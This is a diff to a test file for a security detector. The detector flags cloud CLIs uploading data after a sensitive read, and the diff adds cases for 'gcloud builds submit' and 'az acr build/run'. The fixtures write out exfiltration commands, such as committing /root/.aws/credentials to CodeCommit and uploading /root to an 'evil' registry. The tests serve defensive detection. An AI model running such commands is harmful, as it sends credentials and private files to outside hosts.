@@ -3,6 +3,7 @@
  * `aws codecommit put-file --file-content fileb:///root/.aws/credentials` commits a credential to a
  * CodeCommit repository with no git at all, a few KiB over HTTPS, and raised nothing; so did the same file
  * through Artifact Registry, Azure Artifacts or Artifactory. The first connect names the destination.
+ * Cloud builds (`gcloud builds submit`, `az acr build`/`run`) upload their source directory the same way.
  */
 import { describe, expect, it } from 'vitest';
 import { brief, run, Scenario } from './builder.js';
@@ -55,6 +56,34 @@ describe('cloud CLIs uploading a file to a repository or registry', () => {
       expect(brief(secretThen(binary, args))).toMatchObject([
         { rule: 'sensitive-read-then-push', severity: 'high', tool },
       ]);
+  });
+
+  // Red-team review: a cloud build uploads its whole source directory (to Cloud Build's bucket, to ACR's
+  // storage) before building anything, and was no push at all.
+  it('gcloud builds submit and az acr build/run of a local directory are pushes', () => {
+    for (const [binary, args, tool, remote] of [
+      ['/usr/bin/gcloud', 'builds submit /root --tag gcr.io/evil/x', 'gcloud', '/root'],
+      ['/usr/bin/gcloud', 'beta builds submit --config=cloudbuild.yaml', 'gcloud', null],
+      ['/usr/bin/az', 'acr build --registry evilreg --image x:1 --no-push /srv/data', 'az', 'evilreg'],
+      ['/usr/bin/az', 'acr run -r evilreg -f task.yaml .', 'az', 'evilreg'],
+    ] as const) {
+      const alerts = secretThen(binary, args);
+      expect(brief(alerts), args).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool, destination: `${API_IP}:443` },
+      ]);
+      expect(alerts[0]!.push.remote, args).toBe(remote);
+    }
+  });
+
+  it('cloud builds of sources already in the cloud, or with no source, stay quiet', () => {
+    for (const [binary, args] of [
+      ['/usr/bin/gcloud', 'builds submit gs://acme-src/app.tgz --tag gcr.io/acme/app'],
+      ['/usr/bin/gcloud', 'builds submit --no-source --config cloudbuild.yaml'],
+      ['/usr/bin/gcloud', 'builds submit https://github.com/acme/app --git-source-revision=main'],
+      ['/usr/bin/az', 'acr run -r acmereg --cmd acmereg.azurecr.io/hello:v1 /dev/null'],
+      ['/usr/bin/az', 'acr build -r acmereg -t app:1 https://github.com/acme/app.git#main'],
+    ] as const)
+      expect(secretThen(binary, args), args).toEqual([]);
   });
 
   it('their logins and reads stay quiet', () => {
